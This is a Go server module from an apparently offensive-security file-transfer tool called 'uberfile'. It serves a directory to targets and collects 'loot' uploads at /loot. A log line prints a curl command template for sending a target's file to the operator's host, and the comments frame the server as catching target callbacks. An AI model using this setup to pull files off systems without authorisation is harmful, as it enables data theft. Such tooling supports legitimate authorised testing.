package server

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"

	"github.com/gorilla/mux"
	"github.com/sirupsen/logrus"

	"github.com/dpshade/uberfile/internal/errors"
	"github.com/dpshade/uberfile/internal/validation"
)

// LootPath receives multipart uploads from the target, field "file"
const LootPath = "/loot"

func (s *FileServer) serveHTTP(ctx context.Context, cfg Config, log logrus.FieldLogger) error {
	certFile, keyFile, err := s.tlsPair(ctx, cfg.Protocol)
	if err != nil {
		return err
	}
	log.Infof("Upload URI: %s (curl -F \"file=@./file.txt\" %s://%s%s)", LootPath, cfg.Protocol.Scheme(), cfg.Addr(), LootPath)
	log.Infof("Working directory: %s", cfg.Directory)
	return runHTTP(ctx, cfg, NewHTTPHandler(cfg.Directory, log), certFile, keyFile, log)
}

// NewHTTPHandler serves dir read-only, plus the upload endpoint and a health check
func NewHTTPHandler(dir string, log logrus.FieldLogger) http.Handler {
	r := mux.NewRouter()
	r.Use(requestLogger(log))

	uploads := validation.NewRequestValidator(log)
	r.HandleFunc("/health", handleHealth).Methods(http.MethodGet)
	r.Handle(LootPath, uploads.ValidateUpload(lootHandler(dir, log))).Methods(http.MethodPost)
	r.PathPrefix("/").Handler(http.FileServer(http.Dir(dir))).Methods(http.MethodGet, http.MethodHead)
	return r
}

// requestLogger logs every request the way the operator watches for the
// target to call back
func requestLogger(log logrus.FieldLogger) mux.MiddlewareFunc {
	return func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			rec := &statusRecorder{ResponseWriter: w, status: http.StatusOK}
			next.ServeHTTP(rec, r)
			log.WithFields(logrus.Fields{
				"remote": r.RemoteAddr,
				"status": rec.status,
				"agent":  r.UserAgent(),
			}).Infof("%s %s", r.Method, r.URL.Path)
		})
	}
}

type statusRecorder struct {
	http.ResponseWriter
	status int
}

func (r *statusRecorder) WriteHeader(code int) {
	r.status = code
	r.ResponseWriter.WriteHeader(code)
}

func handleHealth(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(map[string]string{
		"status":  "ok",
		"service": "uberfile",
	})
}

func lootHandler(dir string, log logrus.FieldLogger) http.Handler {
	httpErrors := errors.NewHTTPErrorHandler(log, false)
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		file, header, err := r.FormFile(validation.UploadField)
		if err != nil {
			httpErrors.WriteHTTPError(w, errors.InvalidInputError("Missing form field 'file'"))
			return
		}
		defer file.Close()

		name := validation.SanitizeFilename(header.Filename)
		dest := filepath.Join(dir, name)
		out, err := os.OpenFile(dest, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o644)
		if err != nil {
			httpErrors.WriteHTTPError(w, errors.Wrap(err, errors.ErrCodeInternalError, "Failed to write local file"))
			return
		}
		n, err := io.Copy(out, file)
		if closeErr := out.Close(); err == nil {
			err = closeErr
		}
		if err != nil {
			httpErrors.WriteHTTPError(w, errors.Wrap(err, errors.ErrCodeInternalError, "Failed to write local file"))
			return
		}

		log.WithField("bytes", n).Infof("Uploaded file: %s", dest)
		w.WriteHeader(http.StatusCreated)
		fmt.Fprintf(w, "received %s (%d bytes)\n", name, n)
	})
}
